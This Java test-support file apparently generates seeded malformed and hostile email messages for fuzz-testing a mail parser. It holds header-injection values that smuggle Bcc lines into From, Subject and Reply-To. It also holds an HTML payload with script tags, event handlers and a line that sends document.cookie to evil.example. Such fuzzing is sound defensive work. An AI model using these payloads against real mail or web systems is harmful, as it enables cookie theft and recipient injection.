package org.switchboard.email.support;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * Seeded generator of malformed and hostile RFC 5322 messages, each derived from a real message of the corpus
 * ({@code INDEX.tsv} rows of format {@code rfc5322} under 60 KB, support and general mail): its header block is
 * kept (minus its Message-ID, replaced by a unique {@code <fuzz-N@fuzz.test>} so every case is stored separately)
 * and one {@link Kind} of damage is applied. The same seed gives the same messages.
 */
public final class HostileMail {

    /** The kinds of damage. */
    public enum Kind {
        /** The message cut at a random byte (inside headers, a part or an encoded line). */
        TRUNCATED,
        /** A multipart whose boundary is missing, empty, never closed or does not match its parts. */
        BROKEN_BOUNDARY,
        /** Unknown, empty or syntactically broken charset parameters. */
        BAD_CHARSET,
        /** base64 with stray characters, a cut last quantum or no content at all. */
        BAD_BASE64,
        /** quoted-printable with invalid escapes and soft breaks at the end. */
        BAD_QUOTED_PRINTABLE,
        /** CR/LF smuggled into Subject and display names (raw and as RFC 2047 encoded words), bare CRs. */
        HEADER_INJECTION,
        /** Thousands of header fields. */
        THOUSANDS_OF_HEADERS,
        /** multipart nested far deeper than any mail client produces. */
        DEEP_NESTING,
        /** HTML with script, event handlers and a javascript: link. */
        HTML_SCRIPT,
        /** Bytes that are not UTF-8 in headers and a body declared UTF-8, plus NUL and control characters. */
        INVALID_UTF8
    }

    /**
     * One generated message.
     *
     * @param index the case number
     * @param kind  the damage
     * @param base  the corpus file it was derived from
     * @param raw   the message bytes
     */
    public record Case(int index, Kind kind, String base, byte[] raw) {
        /** @return the message id the case carries (it may have been cut off by the damage) */
        public String messageId() {
            return "<fuzz-" + index + "@fuzz.test>";
        }

        /** @return a one-line description for failure messages: kind, base, size and the first bytes escaped */
        public String describe() {
            String head = new String(raw, 0, Math.min(raw.length, 300), StandardCharsets.ISO_8859_1)
                    .replace("\r", "\\r").replace("\n", "\\n").replace("\0", "\\0");
            return "case " + index + " " + kind + " from " + base + " (" + raw.length + " bytes): " + head;
        }
    }

    private static List<String> corpus;

    private final Random random;

    /** @param seed the seed; the same seed gives the same cases */
    public HostileMail(long seed) {
        this.random = new Random(seed);
    }

    /**
     * @param count how many
     * @return that many cases, the kinds in turn so each appears
     */
    public List<Case> cases(int count) {
        List<Case> cases = new ArrayList<>();
        Kind[] kinds = Kind.values();
        for (int i = 0; i < count; i++) {
            cases.add(generate(i, kinds[i % kinds.length]));
        }
        return cases;
    }

    /**
     * @param configured a number, or {@code random} for a fresh seed
     * @return the seed to use
     */
    public static long seed(String configured) {
        return "random".equals(configured) ? new Random().nextLong() : Long.parseLong(configured);
    }

    private Case generate(int index, Kind kind) {
        List<String> files = corpus();
        String base = files.get(random.nextInt(files.size()));
        String real = latin1(Fixtures.bytes(base));
        String id = "Message-ID: <fuzz-" + index + "@fuzz.test>\r\n";
        int end = headerEnd(real);
        String headers = normalize(real.substring(0, end)).replaceAll("(?im)^Message-ID:[^\\r\\n]*(\r\n[ \t][^\\r\\n]*)*\r\n", "");
        String body = real.substring(end);
        String message = switch (kind) {
            case TRUNCATED -> {
                String whole = id + headers + body;
                yield whole.substring(0, id.length() + random.nextInt(Math.max(1, whole.length() - id.length())));
            }
            case BROKEN_BOUNDARY -> id + strip(headers) + brokenMultipart();
            case BAD_CHARSET -> id + strip(headers) + "MIME-Version: 1.0\r\nContent-Type: text/plain; charset="
                    + pick("x-unknown-" + random.nextInt(999), "\"\"", "utf-8\"; \"", "UTF-7", "ISO-2022-JP-9",
                    "=?utf-8?q?x?=", "utf-8; charset=latin1") + "\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
                    + "Bonjour, où est ma commande ? \u00e9\u00e8 \u00ff\r\n";
            case BAD_BASE64 -> id + strip(headers) + "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n"
                    + "Content-Transfer-Encoding: base64\r\n\r\n" + pick("SGVsbG8sIHdoZXJlIGlzIG15IG9yZGVyPw=!!*%$\r\nQUJD\r\n",
                    "SGVsbG8sIHdoZXJlIGlzIG15IG9yZGV", "====\r\n", "", "\u00ff\u00fe\u0000\u0001");
            case BAD_QUOTED_PRINTABLE -> id + strip(headers) + "MIME-Version: 1.0\r\nContent-Type: text/plain;"
                    + " charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
                    + "Where is my order =ZZ =4 =C3=A9=\r\n=\r\nbroken=G1=" + pick("", "=", "=\r", "=0");
            case HEADER_INJECTION -> id + "From: " + pick("=?utf-8?Q?Eve=0D=0ABcc:_victim@example.org?= <eve@example.org>",
                    "\"Eve\r\nBcc: victim@example.org\" <eve@example.org>", "Eve <eve@example.org>\rBcc: v@example.org")
                    + "\r\nTo: support@example.com\r\nSubject: " + pick("=?utf-8?Q?Order=0D=0ABcc:_victim@example.org?=",
                    "Order\rBcc: victim@example.org", "=?utf-8?B?T3JkZXINCkJjYzogdmljdGltQGV4YW1wbGUub3Jn?=")
                    + "\r\nReply-To: " + pick("=?utf-8?Q?x=0D=0AX-Evil:_1?= <eve@example.org>", "eve@example.org")
                    + "\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nWhere is my order?\r\n";
            case THOUSANDS_OF_HEADERS -> {
                StringBuilder many = new StringBuilder(id);
                int n = 2000 + random.nextInt(4000);
                for (int i = 0; i < n; i++) {
                    many.append(i % 2 == 0 ? "X-Fuzz-" + i : "Received").append(": from host").append(i)
                            .append(".example by mx.example; ").append(i).append("\r\n");
                }
                yield many + headers + body;
            }
            case DEEP_NESTING -> id + strip(headers) + nested(25 + random.nextInt(150));
            case HTML_SCRIPT -> id + strip(headers) + "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
                    + "<html><head><script>alert('head')</script><style>p{}</style></head><body onload=\"steal()\">"
                    + "<p>Where is my order?</p><SCRIPT type=\"text/javascript\">document.location='http://evil.example/'"
                    + "+document.cookie</SCRIPT><a href=\"javascript:alert(1)\">click</a><img src=x onerror=alert(2)>"
                    + pick("", "<script>", "<scr<script>ipt>alert(3)</script>", "<!--<script>alert(4)</script>-->")
                    + "</body></html>\r\n";
            case INVALID_UTF8 -> id + strip(headers).replaceFirst("(?im)^Subject:", "Subject: \u00c3\u0028\u00ff\u00fe")
                    + "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nWhere \u00c3\u0028 is "
                    + "\u00e2\u0082 my \u0000 order\u0007\u001b[31m? \u00f0\u009f\u0098\r\n";
        };
        return new Case(index, kind, base, message.getBytes(StandardCharsets.ISO_8859_1));
    }

    private String brokenMultipart() {
        String b = "b" + random.nextInt(1_000_000);
        String part = "Content-Type: text/plain; charset=utf-8\r\n\r\nWhere is my order?\r\n";
        return "MIME-Version: 1.0\r\n" + switch (random.nextInt(5)) {
            case 0 -> "Content-Type: multipart/mixed\r\n\r\n--" + b + "\r\n" + part + "--" + b + "--\r\n";
            case 1 -> "Content-Type: multipart/mixed; boundary=\"\"\r\n\r\n--\r\n" + part + "----\r\n";
            case 2 -> "Content-Type: multipart/mixed; boundary=\"" + b + "\"\r\n\r\n--" + b + "\r\n" + part;
            case 3 -> "Content-Type: multipart/alternative; boundary=\"" + b + "\"\r\n\r\n--" + b + "x\r\n" + part
                    + "--" + b + "x--\r\n";
            default -> "Content-Type: multipart/mixed; boundary=\"" + b + "\"\r\n\r\n--" + b + "\r\n"
                    + "Content-Type: multipart/related; boundary=\"" + b + "\"\r\n\r\n--" + b + "\r\n" + part
                    + "--" + b + "--\r\n";
        };
    }

    private static String nested(int depth) {
        StringBuilder open = new StringBuilder("MIME-Version: 1.0\r\n");
        for (int i = 0; i < depth; i++) {
            open.append("Content-Type: multipart/mixed; boundary=\"n").append(i).append("\"\r\n\r\n--n").append(i)
                    .append("\r\n");
        }
        open.append("Content-Type: text/plain\r\n\r\nWhere is my order?\r\n");
        for (int i = depth - 1; i >= 0; i--) {
            open.append("--n").append(i).append("--\r\n");
        }
        return open.toString();
    }

    /** The header block without its MIME fields (the generated body brings its own). */
    private static String strip(String headers) {
        return headers.replaceAll("(?im)^(Content-[\\w-]+|MIME-Version):[^\\r\\n]*(\r?\n[ \t][^\\r\\n]*)*\r?\n", "");
    }

    /** Index just after the blank line that ends the header block (CRLF or LF), or the length. */
    private static int headerEnd(String message) {
        int crlf = message.indexOf("\r\n\r\n");
        int lf = message.indexOf("\n\n");
        if (crlf < 0 && lf < 0) {
            return message.length();
        }
        return crlf >= 0 && (lf < 0 || crlf < lf) ? crlf + 4 : lf + 2;
    }

    /** CRLF line ends, and exactly one line end at the end (no blank line: more fields follow). */
    private static String normalize(String headers) {
        return headers.replaceAll("\r?\n", "\r\n").replaceAll("(\r\n)+$", "") + "\r\n";
    }

    private String pick(String... options) {
        return options[random.nextInt(options.length)];
    }

    private static String latin1(byte[] bytes) {
        return new String(bytes, StandardCharsets.ISO_8859_1);
    }

    private static synchronized List<String> corpus() {
        if (corpus == null) {
            try {
                corpus = Files.readAllLines(Fixtures.root().resolve("INDEX.tsv"), StandardCharsets.UTF_8).stream()
                        .skip(1)
                        .map(line -> line.split("\t"))
                        .filter(f -> f.length > 6 && f[3].equals("rfc5322") && Long.parseLong(f[6]) < 60_000
                                && (f[1].equals("support") || f[1].equals("general")))
                        .map(f -> f[0])
                        .toList();
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }
        return corpus;
    }
}
